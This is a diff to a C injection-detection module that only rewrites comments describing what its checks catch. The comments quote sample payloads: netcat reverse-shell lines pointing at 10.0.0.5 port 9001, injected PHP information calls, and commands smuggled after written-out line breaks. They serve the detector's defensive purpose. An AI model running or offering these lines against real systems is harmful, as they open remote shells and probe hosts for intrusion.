@@ -307,7 +307,7 @@ static size_t splitter(const char *s, size_t n, size_t i, bool inside)
         return 0;
     }
     if (c == '\\' && inside && i + 1 < n && is_lower((unsigned char)s[i + 1])) {
-        /* "id\n": a written-out line break ends the word (see escaped_break) */
+        /* "whoami\n": a written-out line break ends the word (see escaped_break) */
         bool brk = (s[i + 1] == 'n' || s[i + 1] == 'r') &&
                    (i + 2 >= n || !is_lower((unsigned char)s[i + 2]));
         return brk ? 0 : 1;
@@ -649,8 +649,8 @@ static bool script_tag(const char *s, size_t n)
 }
 
 /*
- * PHP's information functions called as a statement of injected code: "phpinfo();",
- * ";phpinfo()", "| phpversion()". Named alone in text ("phpinfo() shows ...") they are words.
+ * PHP's information functions called as a statement of injected code: "phpversion();",
+ * "&php_uname()", "| phpcredits()". Named alone in text ("phpinfo() shows ...") they are words.
  */
 static bool php_info_call(const char *s, size_t n)
 {
@@ -677,7 +677,7 @@ static bool php_info_call(const char *s, size_t n)
 
 /*
  * A whole value that runs a shell, an interpreter or netcat with options and a script, a path or
- * an address: "nc -lvvp 4444 -e /bin/sh", "perl -e 'print 1'", "python -c 'import os'".
+ * an address: "nc -nv 10.0.0.5 9001 -e /bin/sh", "perl -e 'print 1'", "python -c 'import os'".
  */
 static bool interpreter_line(const char *s, size_t n)
 {
@@ -696,7 +696,7 @@ static bool interpreter_line(const char *s, size_t n)
         return false;
     size_t i = skip_blanks(s, n, cw.end);
     bool option = i > cw.end && i + 1 < n && s[i] == '-' && is_alpha((unsigned char)s[i + 1]);
-    /* "ncat 10.0.0.1 4444 -e /bin/bash": netcat may take its address first, then a shell */
+    /* "ncat 10.0.0.5 9001 -e /bin/bash": netcat may take its address first, then a shell */
     if (!option && !(is_net && i > cw.end && i < n && is_digit((unsigned char)s[i]) &&
                      memmem(s + i, n - i, " /", 2)))
         return false;
@@ -721,7 +721,8 @@ static bool split_name_at_start(const char *s, size_t n)
     return any_list(cw.w, cw.l) || windows_command(cw.w, cw.l, false, s, n, e, true);
 }
 
-/* A literal "\n" or "\r" standing for a line break, then a command: "\nid\n", "\n/bin/ls". */
+/* A literal "\n" or "\r" standing for a line break, then a command: "\nuname -a", "\n/usr/bin/id".
+ */
 static bool escaped_break_command(const char *s, size_t n)
 {
     for (const char *p = memchr(s, '\\', n); p; p = memchr(p + 1, '\\', (size_t)(s + n - p - 1))) {
